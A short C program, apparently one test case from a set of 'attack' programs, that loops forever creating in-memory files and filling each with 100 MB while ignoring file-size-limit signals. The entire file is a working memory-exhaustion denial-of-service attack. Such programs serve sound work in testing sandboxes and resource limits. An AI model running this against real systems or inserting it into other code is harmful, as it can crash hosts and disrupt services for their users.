#include "attack.h"
int main(void)
{
	static char block[1 << 20];
	memset(block, 1, sizeof block);
	signal(SIGXFSZ, SIG_IGN);
	for (;;) {
		int fd = memfd_create("x", 0);
		for (int i = 0; i < 100; i++)
			write(fd, block, sizeof block);
	}
}
